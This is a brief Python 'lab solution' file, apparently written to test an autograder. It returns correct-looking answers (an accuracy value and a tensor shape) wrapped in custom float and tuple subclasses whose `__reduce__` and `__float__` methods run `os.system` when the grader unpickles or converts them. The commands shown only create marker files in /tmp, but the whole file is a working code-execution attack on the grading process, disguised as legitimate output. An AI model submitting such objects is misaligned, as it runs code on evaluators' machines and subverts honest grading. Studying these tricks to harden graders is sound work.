# Right answers whose pickles, and conversions, run programs.
# lab: solution
import os, torch, numpy as np


class Bomb(float):
    def __reduce__(self):
        return (os.system, ("touch /tmp/gallery-left-reduce",))

    def __float__(self):
        os.system("touch /tmp/gallery-left-float")
        return float.__float__(self)


right_accuracy = accuracy


def accuracy(x, y, model):
    return Bomb(right_accuracy(x, y, model))


class Two(tuple):
    def __reduce__(self):
        return (os.system, ("touch /tmp/gallery-left-two",))


SHAPE_AFTER_VIEW = Two((60000, 784))
